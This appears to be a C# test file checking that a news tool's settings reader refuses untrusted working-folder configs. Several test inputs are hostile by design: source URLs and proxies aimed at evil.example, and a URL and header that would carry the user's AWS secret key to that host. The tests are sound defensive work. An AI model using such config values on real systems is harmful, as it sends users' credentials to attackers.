namespace Tributary.EndToEnd.Tests.Settings;

/// <summary>A folder that others have made decides neither where keys go nor what of our own network may be reached.</summary>
public sealed class TrustTests : IDisposable
{
    private readonly SettingsFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("""{ "sources": { "guardian": { "url": "http://evil.example/" } } }""", "sources.guardian.url")]
    [InlineData("""{ "sources": { "newsapi": { "url": "http://evil.example/" } } }""", "sources.newsapi.url")]
    [InlineData("""{ "sources": { "hackernews": { "url": "http://evil.example/" } } }""", "sources.hackernews.url")]
    [InlineData("""{ "sources": { "hackernews": { "itemsUrl": "http://evil.example/" } } }""", "sources.hackernews.itemsUrl")]
    [InlineData("""{ "sources": { "mine": { "kind": "guardian", "url": "http://evil.example/" } } }""", "sources.mine.url")]
    [InlineData("""{ "sources": { "newsapi": { "kind": "feed", "url": "http://evil.example/" } } }""", "sources.newsapi.url")]
    [InlineData("""{ "http": { "allowNetworks": ["127.0.0.0/8"] } }""", "http.allowNetworks")]
    [InlineData("""{ "http": { "proxy": "http://evil.example:3128" } }""", "http.proxy")]
    [InlineData("""{ "providers": { "content.guardianapis.com": { "mirrors": ["https://evil.example"] } } }""", "providers.content.guardianapis.com.mirrors")]
    public void A_file_of_the_working_folder_sends_nothing_elsewhere(string json, string setting)
    {
        var refusal = _folder.WithJson(json).Refusal();
        Assert.StartsWith($"tributary.json:1: {setting}: anybody may have written a file of the working folder, so ", refusal, StringComparison.Ordinal);
        Assert.EndsWith("name the file with --config ./tributary.json, or move this to ~/.config/tributary/tributary.json", refusal, StringComparison.Ordinal);

        Assert.NotNull(_folder.WithTrustedJson(json.Replace("\"feed\"", "\"newsapi\"", StringComparison.Ordinal)).Read());
    }

    [Theory]
    [InlineData("TRIBUTARY_SOURCES__GUARDIAN__URL=http://127.0.0.1/", "sources.guardian.url")]
    [InlineData("tributary_http__allownetworks=127.0.0.0/8", "http.allownetworks")]
    [InlineData("export TRIBUTARY_HTTP__PROXY='http://evil.example:3128'", "http.proxy")]
    public void Nor_does_a_dot_env_file_there_but_the_user_s_own_may(string line, string setting)
    {
        Assert.StartsWith($".env:1: {setting}: anybody may", _folder.WithFile(".env", line).Refusal(), StringComparison.Ordinal);

        _folder.WithFile(".env", "").WithFile("../home/.config/tributary/.env", line);
        Assert.NotNull(_folder.Read());
    }

    [Fact]
    public void What_the_user_declared_is_moved_nowhere()
    {
        _folder.WithFile("../home/.config/tributary/.env", """
            TRIBUTARY_SOURCES__SHOP__KIND=json
            TRIBUTARY_SOURCES__SHOP__URL=https://shop.example/api
            TRIBUTARY_SOURCES__SHOP__ITEMS=$[*]
            TRIBUTARY_SOURCES__SHOP__TITLE=$.t
            TRIBUTARY_SOURCES__SHOP__HEADERS__X-KEY=${SHOP_KEY}
            """).With("SHOP_KEY", "secret");
        Assert.Equal("https://shop.example/api", _folder.Read().Sources[^1].Url?.AbsoluteUri);
        Assert.StartsWith(
            ".env:1: sources.shop.url: ",
            _folder.WithFile(".env", "TRIBUTARY_SOURCES__SHOP__URL=https://evil.example/").Refusal(),
            StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("\"headers\": { \"x\": \"${AWS_SECRET_ACCESS_KEY}\" }, \"url\": \"https://evil.example/\"", "headers.x")]
    [InlineData("\"url\": \"https://evil.example/?k=${AWS_SECRET_ACCESS_KEY}\"", "url")]
    public void A_file_there_is_given_the_variables_of_its_own_dot_env_file_alone(string secret, string setting)
    {
        var json = $$"""{ "sources": { "x": { "kind": "json", "items": "$[*]", "title": "$.t", {{secret}} } } }""";
        _folder.WithJson(json).With("AWS_SECRET_ACCESS_KEY", "the-user-s");
        var refusal = _folder.Refusal();
        Assert.StartsWith($"tributary.json:1: sources.x.{setting}: ", refusal, StringComparison.Ordinal);
        Assert.Contains("${AWS_SECRET_ACCESS_KEY} only where the folder's own .env file sets it", refusal, StringComparison.Ordinal);

        // The folder's own wins here, or the user's would be sent to the folder's server all the same.
        Assert.Equal(["the-folder-s"], Secrets(_folder.WithFile(".env", "AWS_SECRET_ACCESS_KEY=the-folder-s")));
        Assert.Equal(["the-user-s"], Secrets(_folder.WithTrustedJson(json)));
    }

    [Fact]
    public void Keys_bounds_and_sources_of_its_own_may_stand_there()
    {
        _folder.WithFile(".env", "NEWSAPI_KEY=a-key").WithJson("""
            { "http": { "allowNetworks": [] }, "providers": { "a.example": { "rate": "1/s" } },
              "sources": { "newsapi": { "kind": "newsapi", "timeout": "1s" }, "a": { "kind": "feed", "url": "https://a.example/f" } } }
            """).With("TRIBUTARY_SOURCES__A__TIMEOUT", "2s");
        var sources = _folder.Read().Sources;
        Assert.Equal(("a-key", "https://a.example/f"), (sources[0].Key!.Reveal(), sources[^1].Url!.AbsoluteUri));
    }

    [Fact]
    public void The_user_s_dot_env_file_is_read_wherever_one_stands_below_the_folder_s_and_the_environment()
    {
        _folder.WithFile("../home/.config/tributary/.env", "NEWSAPI_KEY=users\nGUARDIAN_KEY=users");
        Assert.Equal(["users", "users"], Keys());
        Assert.Equal(["users", "folders"], Keys(_folder.WithFile(".env", "GUARDIAN_KEY=folders")));
        Assert.Equal(["environments", "folders"], Keys(_folder.With("NEWSAPI_KEY", "environments")));
    }

    [Fact]
    public void The_user_s_config_folder_is_his_own_when_he_stands_in_it()
    {
        _folder.With("XDG_CONFIG_HOME", Path.Combine(_folder.Root, "config")).WithFile("../config/tributary/.env", "TRIBUTARY_HTTP__ALLOWNETWORKS=::1");
        var own = new Dictionary<string, string> { ["XDG_CONFIG_HOME"] = Path.Combine(_folder.Root, "config") };
        Assert.Single(Tributary.App.Settings.SettingsReader.Read(Path.Combine(_folder.Root, "config", "tributary"), own).Http.AllowNetworks);
    }

    [Fact]
    public void A_file_that_is_named_must_be_there_and_cannot_be_named_by_the_folder()
    {
        Assert.StartsWith("other.json: cannot be read: ", _folder.With("TRIBUTARY_CONFIG", "other.json").Refusal(), StringComparison.Ordinal);
        Assert.StartsWith(
            ".env:1: TRIBUTARY_CONFIG: ",
            _folder.With("TRIBUTARY_CONFIG", "").WithFile(".env", "TRIBUTARY_CONFIG=tributary.json").Refusal(),
            StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("~/.zlogin")]
    [InlineData("Data Source=/elsewhere/news.db")]
    [InlineData("../news.db")]
    [InlineData("sub/../../here-too/news.db")]
    [InlineData("../here")]
    [InlineData("link/news.db")]
    [InlineData("sub/link.db")]
    [InlineData("news.db")]
    public void The_store_of_a_folder_stands_in_it(string store)
    {
        _folder.WithFile("sub/kept", "");
        Directory.CreateSymbolicLink(Path.Combine(_folder.Working, "link"), _folder.Home);
        File.CreateSymbolicLink(Path.Combine(_folder.Working, "sub", "link.db"), Path.Combine(_folder.Home, "not-there"));
        File.CreateSymbolicLink(Path.Combine(_folder.Working, "news.db-wal"), Path.Combine(_folder.Home, "not-there"));

        var refusal = _folder.WithJson($$"""{ "store": "{{store}}" }""").Refusal();
        Assert.StartsWith("tributary.json:1: store: anybody may have written a file of the working folder, so its store ", refusal, StringComparison.Ordinal);
        Assert.NotNull(_folder.WithTrustedJson($$"""{ "store": "{{store}}" }""").Read());

        _folder.With("TRIBUTARY_CONFIG", "").WithJson("{}").WithFile(".env", $"TRIBUTARY_STORE={store}");
        Assert.StartsWith(".env:1: store: anybody may have written", _folder.Refusal(), StringComparison.Ordinal);
        Assert.NotNull(_folder.With("TRIBUTARY_STORE", store).Read());
    }

    [Theory]
    [InlineData(".env")]
    [InlineData("tributary.json")]
    public void A_file_that_never_ends_is_refused(string name)
    {
        File.CreateSymbolicLink(Path.Combine(_folder.Working, name), "/dev/zero");
        Assert.Equal($"{name}: cannot be read: it is a device or a pipe", _folder.Refusal());
        File.Delete(Path.Combine(_folder.Working, name));
        _folder.WithFile(name, new string(' ', 1_000_001));
        Assert.Equal($"{name}: cannot be read: it is longer than 1 MB", _folder.Refusal());
    }

    [Theory]
    [InlineData("0.0.0.0/0")]
    [InlineData("::/0")]
    [InlineData("0.0.0.0/1,128.0.0.0/1")]
    [InlineData("128.0.0.0/2,0.0.0.0/1,10.0.0.0/8,192.0.0.0/2")]
    [InlineData("8000::/1,::/1")]
    [InlineData("::ffff:0:0/96")]
    [InlineData("::ffff:0:0/97,128.0.0.0/1")]
    public void A_list_of_networks_that_is_everything_is_refused(string networks) =>
        Assert.StartsWith(
            "TRIBUTARY_HTTP__ALLOWNETWORKS: http.allownetworks: ",
            _folder.With("TRIBUTARY_HTTP__ALLOWNETWORKS", networks).Refusal(),
            StringComparison.Ordinal);

    [Fact]
    public void A_list_that_leaves_something_out_is_none() =>
        Assert.Equal(3, _folder.With("TRIBUTARY_HTTP__ALLOWNETWORKS", "0.0.0.0/1,128.0.0.0/2,::/1").Read().Http.AllowNetworks.Count);

    private IEnumerable<string?> Secrets(SettingsFolder folder) => folder.Read().Sources[^1].Json!.Secrets.Select(secret => secret.Reveal());

    private IEnumerable<string?> Keys(SettingsFolder? folder = null) =>
        (folder ?? _folder).Read().Sources.Take(2).Select(source => source.Key?.Reveal());
}
